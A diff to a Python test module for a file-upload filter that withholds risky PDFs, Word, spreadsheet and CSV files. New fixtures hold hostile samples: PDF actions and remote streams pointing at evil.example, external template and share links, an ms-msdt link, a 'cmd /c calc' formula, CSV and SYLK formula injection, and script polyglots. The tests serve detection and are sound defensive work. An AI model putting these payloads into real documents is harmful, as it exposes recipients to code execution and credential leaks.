@@ -19,7 +19,8 @@ from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
 
 from rollcall.documents.blank_form import blank_form_pdf
-from rollcall.inbound.kinds import MOST_STREAMS, MOST_UNPACKED, handed_on
+from rollcall.inbound.active import MOST_STREAMS, MOST_UNPACKED
+from rollcall.inbound.kinds import handed_on
 from rollcall.inbound.mime import File
 from tests.support.builders import an_event, roster_files
 
@@ -31,6 +32,9 @@ LIST = (CASES / "list.ods").read_bytes()
 TABLE, WORKBOOK = roster_files()
 
 
+EXTERNAL = 'TargetMode="External"'
+
+
 def a_docx() -> bytes:
     made = io.BytesIO()
     docx.Document().save(made)
@@ -38,12 +42,34 @@ def a_docx() -> bytes:
 
 
 def a_pdf(objects: bytes = b"", more: bytes = b"") -> bytes:
-    catalog = b"1 0 obj\n<</Type/Catalog " + objects + b">>\nendobj\n"
-    return b"%PDF-1.7\n" + catalog + more + b"trailer <</Root 1 0 R>>\n%%EOF\n"
+    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog " + objects + b">>\nendobj\n" + more
+    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
+    if more.startswith(b"9 0 obj"):
+        table += b"9 1\n%010d 00000 n \n" % (len(body) - len(more))
+    table += b"trailer <</Size 10/Root 1 0 R>>\n"
+    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)
 
 
 def streamed(content: bytes, dictionary: bytes = b"/Filter/FlateDecode", end: bytes = b"\nendstream endobj\n") -> bytes:
     return b"9 0 obj <</Type/ObjStm/N 1/First 4 " + dictionary + b">> stream\r\n" + zlib.compress(content) + end
+
+
+def packed_pdf(found: bytes, times: int) -> bytes:
+    """With this object in a stream of objects, and the table by which it is found (ISO 32000-1, 7.5.7, 7.5.8)."""
+    content = b"5 0 " + found
+    for _ in range(times):
+        content = zlib.compress(content)
+    filters = b"/FlateDecode" * times
+    objects = b"4 0 obj <</Type/ObjStm/N 1/First 4/Length %d/Filter[%b]>> stream\n%b\nendstream endobj\n"
+    head = b"%PDF-1.7\n1 0 obj <</Type/Catalog/X 5 0 R>> endobj\n"
+    body = head + objects % (len(content), filters, content)
+    places = [(0, 0), (1, head.index(b"1 0 obj")), (0, 0), (0, 0), (1, len(head)), (2, 4), (1, len(body))]
+    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + b"\0" for kind, place in places)
+    last = b"6 0 obj <</Type/XRef/Size 7/Root 1 0 R/W[1 4 1]/Length %d>> stream\n%b\nendstream endobj\n" % (
+        len(table),
+        table,
+    )
+    return body + last + b"startxref\n%d\n%%%%EOF\n" % len(body)
 
 
 def changed(package: bytes, add: Mapping[str, bytes], instead: tuple[str, bytes, bytes] = ("", b"", b"")) -> bytes:
@@ -61,9 +87,9 @@ def changed(package: bytes, add: Mapping[str, bytes], instead: tuple[str, bytes,
     return made.getvalue()
 
 
-def related(type: str, more: str = 'TargetMode="External"') -> tuple[str, bytes, bytes]:
+def related(type: str, more: str = EXTERNAL, target: str = "http://evil.example/>x") -> tuple[str, bytes, bytes]:
     uri = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-    added = f'<Relationship Id="r99" Type="{uri}/{type}" Target="http://evil.example/>x" {more}/></Relationships>'
+    added = f'<Relationship Id="r99" Type="{uri}/{type}" Target="{target}" {more}/></Relationships>'
     return "word/_rels/document.xml.rels", b"</Relationships>", added.encode()
 
 
@@ -88,6 +114,7 @@ HARMLESS = (
     b"<w:body><w:p><w:r><w:t>Photograph: image (1), DDE de l\xe2\x80\x99Ain</w:t></w:r><w:r><w:instrText>"
     b' HYPERLINK "http://dde.example/link"</w:instrText></w:r></w:p>'
 )
+DRIVE, SHARE = r"file:///C:\Users\a\form.dotx", r"file:///\\evil.example\form.dotx"
 HYPERLINK = changed(DOCX, {}, related("hyperlink"))
 
 
@@ -98,8 +125,10 @@ HYPERLINK = changed(DOCX, {}, related("hyperlink"))
         ("form.PDF", a_pdf(b"/OpenAction[1 0 R/XYZ null null 0]"), "form.pdf", "application/pdf"),
         ("ours.pdf", blank_form_pdf(an_event(), "forms@example.org"), "ours.pdf", "application/pdf"),
         ("objects.pdf", a_pdf(more=streamed(b"5 0 <</S/URI>>")), "objects.pdf", "application/pdf"),
+        ("packed.pdf", packed_pdf(b"<</S/URI/URI(http://www.example.org)>>", 2), "packed.pdf", "application/pdf"),
         ("form.docx", DOCX, "form.docx", WORD),
         ("dde.docx", changed(DOCX, {}, (*FIELD[:2], HARMLESS)), "dde.docx", WORD),
+        ("ours.docx", changed(DOCX, {}, related("attachedTemplate", target=DRIVE)), "ours.docx", WORD),
         ("link.docx", HYPERLINK, "link.docx", WORD),
         ("list.xlsx", WORKBOOK, "list.xlsx", SHEET),
         ("list.ods", LIST, "list.ods", ODS),
@@ -182,8 +211,7 @@ ZIP = changed(DOCX, {})
 ENTITY = b'<!DOCTYPE x [<!ENTITY a "a">]><x/>'
 MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
 TYPED = ("[Content_Types].xml", WORD.encode() + b".main+xml", MACROS)
-ROWS = b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>"
-CALL = ("xl/workbook.xml", b"<sheets>", b"<x>_xlfn.WEBSERVICE(A1)</x><sheets>")
+CALL = ("xl/workbook.xml", b"<sheets>", b"<f>_xlfn.WEBSERVICE(A1)</f><sheets>")
 
 
 WITHHELD = {
@@ -222,6 +250,42 @@ WITHHELD = {
     "a formula after a line of Excel for Mac": ("list.csv", b"Name\r=1+1\r"),
     "a formula of wide signs": ("list.csv", "Name,\uff1d1+1\n".encode()),
     "a PDF and HTML": ("form.pdf", PDF.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1)),
+    "a formula of a function": ("list.csv", b"a,b\n+1+HYPERLINK(1),x\n"),
+    "a formula of a cell": ("list.csv", b"a,b\n-$A$1,x\n"),
+    "a formula after what is not seen": ("list.csv", "a,b\n\u200b\u00a0=1,x\n".encode()),
+    "another separator": ("list.csv", b"sep=:\na:=1\n"),
+    "SYLK": ("list.csv", b"ID;PWXL;N;E\nC;Y1;X1;EEXEC(1)\nE\n"),
+    "a table of HTML": ("list.csv", b"<table><tr><td>=1</table>"),
+    "an archive of an e-mail": ("form.txt", b"\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related"),
+    "HTML in UTF-7": ("form.txt", b"+ADw-script+AD4-alert(1)"),
+    "an attribute that runs": ("form.txt", b"<x y onerror=alert(1)>"),
+    "a picture and RAR": ("form.jpg", JPEG + b"Rar!\x1a\x07\x00"),
+    "a picture and a PDF": ("form.jpg", JPEG + PDF),
+    "a PDF and HTML after it": ("form.pdf", PDF + b"<html><script>alert(1)</script>"),
+    "a PDF that opens a page": ("form.pdf", a_pdf(b"/OpenAction<</S/URI/URI(http://evil.example)>>")),
+    "a PDF that does something on a page": ("form.pdf", a_pdf(b"/AA<</O<</S/URI/URI(http://evil.example)>>>>")),
+    "a PDF whose stream is elsewhere": (
+        "form.pdf",
+        a_pdf(more=b"9 0 obj <</Length 1/F(\\\\evil\\a)>> stream\nx\nendstream endobj\n"),
+    ),
+    "a PDF with a script, packed twice": ("form.pdf", packed_pdf(b"<</S/JavaScript/JS(1)>>", 2)),
+    "a formula within": ("list.xlsx", changed(WORKBOOK, {"xl/worksheets/s.xml": b"<x><f>cmd|'/c calc'!A0</f></x>"})),
+    "a formula by a reference": ("list.xlsx", changed(WORKBOOK, {"xl/worksheets/s.xml": b"<x><f>EX&#69;C(1)</f></x>"})),
+    "a formula of ODS": ("list.ods", changed(LIST, {"styles9.xml": b'<x xmlns:t="t" t:formula="of:=DDE(1)"/>'})),
+    "a picture by a field": (
+        "form.docx",
+        changed(DOCX, {}, (*FIELD[:2], FIELD[2].replace(b"D&#68;</w:instrText><w:instrText>EAUTO", b"INCLUDEPICTURE"))),
+    ),
+    "a quoted field": ("form.docx", changed(DOCX, {}, (*FIELD[:2], FIELD[2].replace(b"D&#68;", b" QUOTE 68 ")))),
+    "a picture of VML": (
+        "form.docx",
+        changed(DOCX, {"word/x.xml": b"<v:imagedata xmlns:v='v' src='http://evil.example'/>"}),
+    ),
+    "a file without its mode": ("form.docx", changed(DOCX, {}, related("image", "", "file://evil/a.png"))),
+    "a link that runs": ("form.docx", changed(DOCX, {}, related("hyperlink", target="ms-msdt:/id"))),
+    "a program called a picture": ("form.docx", changed(DOCX, {"word/media/a.png": b"MZ"})),
+    "SVG that runs": ("form.docx", changed(DOCX, {"word/media/a.svg": b"<svg onload='alert(1)'/>"})),
+    "HTML after a document": ("form.docx", DOCX + b"<html>"),
     "a formula that calls": ("list.xlsx", changed(WORKBOOK, {}, CALL)),
     "a DDE field with a comment": (
         "form.docx",
@@ -244,10 +308,7 @@ WITHHELD = {
     ),
     "a PDF that hides it at the end": ("form.pdf", a_pdf(more=streamed(b"5 0 " + NOISE + LAUNCH))),
     "a PDF that hides it without an end": ("form.pdf", a_pdf(more=streamed(b"5 0 " + LAUNCH, end=b"\n"))),
-    "a PDF packed twice": ("form.pdf", a_pdf(more=streamed(b"", b"/Filter[/ASCIIHexDecode/FlateDecode]"))),
-    "a PDF packed in rows": ("form.pdf", a_pdf(more=streamed(b"", ROWS))),
     "a PDF of too many streams": ("form.pdf", a_pdf(more=b"stream\n" * (MOST_STREAMS + 1))),
-    "a PDF of too many packs of objects": ("form.pdf", a_pdf(more=b"/ObjStm\n" * (MOST_STREAMS + 1))),
     "a PDF that is a bomb": ("form.pdf", a_pdf(more=streamed(b"5 0 " + bytes(MOST_UNPACKED)))),
     "macros": ("form.docm", changed(DOCX, {"word/vbaProject.bin": b"x"})),
     "macros in capitals": ("form.docx", changed(DOCX, {"WORD\\VBAPROJECT.BIN": b"x"})),
@@ -259,6 +320,8 @@ WITHHELD = {
     "HTML within": ("form.docx", changed(DOCX, {"word/afchunk.html": b"<p>"})),
     "HTML within, as XML": ("form.docx", changed(DOCX, {"word/x.xml": b"<p/>"}, related("aFChunk", ""))),
     "a template elsewhere": ("form.docx", changed(DOCX, {}, related("attachedTemplate"))),
+    "a template on a share": ("form.docx", changed(DOCX, {}, related("attachedTemplate", target=SHARE))),
+    "an object on a drive": ("form.docx", changed(DOCX, {}, related("oleObject", target=DRIVE))),
     "a picture elsewhere": ("form.docx", changed(DOCX, {}, related("image", "TargetMode = 'External'"))),
     "a DDE field": ("form.docx", changed(DOCX, {}, FIELD)),
     "a DDE field after another": ("form.docx", changed(DOCX, {}, (*FIELD[:2], AFTER))),
